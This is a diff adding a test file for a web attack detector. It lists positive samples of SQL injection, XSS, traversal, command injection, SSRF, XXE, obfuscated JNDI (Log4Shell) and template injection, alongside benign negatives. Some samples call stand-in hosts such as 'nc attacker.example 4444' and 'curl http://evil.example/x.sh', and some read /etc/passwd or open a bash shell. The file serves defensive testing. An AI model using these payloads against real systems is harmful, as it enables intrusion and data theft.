@@ -1,0 +1,84 @@
+import { AttackClass, detectAttack, normalizedForTests } from "../attacks";
+
+function detect(s: string): AttackClass { const b = String.UTF8.encode(s); return detectAttack(changetype<usize>(b), b.byteLength); }
+
+describe("attack detection: positives, decoded and obfuscated", () => {
+  it("SQL injection", () => {
+    expect(detect("' OR '1'='1")).toBe(AttackClass.Sqli);
+    expect(detect("1' or 1=1--")).toBe(AttackClass.Sqli);
+    expect(detect("admin'--")).toBe(AttackClass.Sqli);
+    expect(detect("1 UNION ALL SELECT username, password FROM users")).toBe(AttackClass.Sqli);
+    expect(detect("1/**/UnIoN/**/SeLeCt/**/1,2")).toBe(AttackClass.Sqli);
+    expect(detect("x'; DROP TABLE users; --")).toBe(AttackClass.Sqli);
+    expect(detect("%27%20OR%201%3D1")).toBe(AttackClass.Sqli);
+    expect(detect("1 AND SLEEP(5)")).toBe(AttackClass.Sqli);
+    expect(detect("\") or (\"a\"=\"a")).toBe(AttackClass.Sqli);
+  });
+  it("XSS", () => {
+    expect(detect("<script>alert(1)</script>")).toBe(AttackClass.Xss);
+    expect(detect("<img src=x onerror=alert(1)>")).toBe(AttackClass.Xss);
+    expect(detect("&lt;svg onload=alert(1)&gt;")).toBe(AttackClass.Xss);
+    expect(detect("javascript:alert(document.cookie)")).toBe(AttackClass.Xss);
+    expect(detect("%3Cscript%3Ealert(1)%3C%2Fscript%3E")).toBe(AttackClass.Xss);
+    expect(detect("<a href=\"x\" onmouseover = \"steal()\">hi</a>")).toBe(AttackClass.Xss);
+  });
+  it("traversal, LFI and RFI", () => {
+    expect(detect("../../../../etc/passwd")).toBe(AttackClass.Traversal);
+    expect(detect("..%2f..%2f..%2fetc%2fshadow")).toBe(AttackClass.Traversal);
+    expect(detect("%252e%252e%252f%252e%252e%252fwindows/win.ini")).toBe(AttackClass.Traversal);
+    expect(detect("....//....//etc/passwd")).toBe(AttackClass.Traversal);
+    expect(detect("php://filter/convert.base64-encode/resource=index.php")).toBe(AttackClass.Traversal);
+    expect(detect("http://evil.example/shell.txt?")).toBe(AttackClass.Rfi);
+  });
+  it("command injection", () => {
+    expect(detect("127.0.0.1; cat /etc/hosts")).toBe(AttackClass.Cmdi);
+    expect(detect("8.8.8.8 && whoami")).toBe(AttackClass.Cmdi);
+    expect(detect("x | nc attacker.example 4444")).toBe(AttackClass.Cmdi);
+    expect(detect("$(curl http://evil.example/x.sh)")).toBe(AttackClass.Cmdi);
+    expect(detect("`id`")).toBe(AttackClass.Cmdi);
+    expect(detect(";/bin/bash -i")).toBe(AttackClass.Cmdi);
+  });
+  it("SSRF: metadata, localhost, private ranges, numeric forms", () => {
+    expect(detect("http://169.254.169.254/latest/meta-data/")).toBe(AttackClass.Ssrf);
+    expect(detect("http://[fd00:ec2::254]/latest/")).toBe(AttackClass.Ssrf);
+    expect(detect("http://metadata.google.internal/computeMetadata/v1/")).toBe(AttackClass.Ssrf);
+    expect(detect("http://localhost:8080/admin")).toBe(AttackClass.Ssrf);
+    expect(detect("http://2130706433/")).toBe(AttackClass.Ssrf);
+    expect(detect("http://0x7f000001/")).toBe(AttackClass.Ssrf);
+    expect(detect("http://0177.0.0.1/")).toBe(AttackClass.Ssrf);
+    expect(detect("http://10.0.0.5:9200/_cat")).toBe(AttackClass.Ssrf);
+    expect(detect("gopher://127.0.0.1:6379/_FLUSHALL")).toBe(AttackClass.Ssrf);
+  });
+  it("XXE, JNDI and SSTI", () => {
+    expect(detect("<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>")).toBe(AttackClass.Xxe);
+    expect(detect("${jndi:ldap://evil.example/a}")).toBe(AttackClass.Jndi);
+    expect(detect("${${lower:j}ndi:${lower:l}dap://x/a}")).toBe(AttackClass.Jndi);
+    expect(detect("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}")).toBe(AttackClass.Jndi);
+    expect(detect("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}")).toBe(AttackClass.Jndi);
+    expect(detect("{{7*7}}")).toBe(AttackClass.Ssti);
+    expect(detect("{{ ''.__class__.__mro__[1].__subclasses__() }}")).toBe(AttackClass.Ssti);
+    expect(detect("${T(java.lang.Runtime).getRuntime().exec('id')}")).toBe(AttackClass.Ssti);
+  });
+});
+
+describe("attack detection: prose and benign values are not attacks", () => {
+  it("does not flag normal text", () => {
+    expect(detect("Please select a drop-off point")).toBe(AttackClass.None);
+    expect(detect("O'Brien")).toBe(AttackClass.None);
+    expect(detect("Rock 'n' roll or jazz")).toBe(AttackClass.None);
+    expect(detect("I'd like to order 2 or 3 items")).toBe(AttackClass.None);
+    expect(detect("Use ```sql\nSELECT name FROM users WHERE id = 1\n``` to read it")).toBe(AttackClass.None);
+    expect(detect("https://www.example.com/products/42")).toBe(AttackClass.None);
+    expect(detect("../images/logo.png")).toBe(AttackClass.None);
+    expect(detect("cats & dogs; id est the pets")).toBe(AttackClass.None);
+    expect(detect("price: ${price} total")).toBe(AttackClass.None);
+    expect(detect("a < b and c > d")).toBe(AttackClass.None);
+    expect(detect("Meeting at 10.0.0.5? No, room 12")).toBe(AttackClass.None);
+    expect(detect("I love <b>bold</b> text")).toBe(AttackClass.None);
+  });
+  it("normalizes repeated encodings, entities, case and comments", () => {
+    expect(normalizedForTests(changetype<usize>(String.UTF8.encode("%2527%2520OR")), 12)).toBe("' or");
+    expect(normalizedForTests(changetype<usize>(String.UTF8.encode("&#x3C;SCRIPT&#62;")), 17)).toBe("<script>");
+    expect(normalizedForTests(changetype<usize>(String.UTF8.encode("UN/**/ION")), 9)).toBe("un ion");
+  });
+});
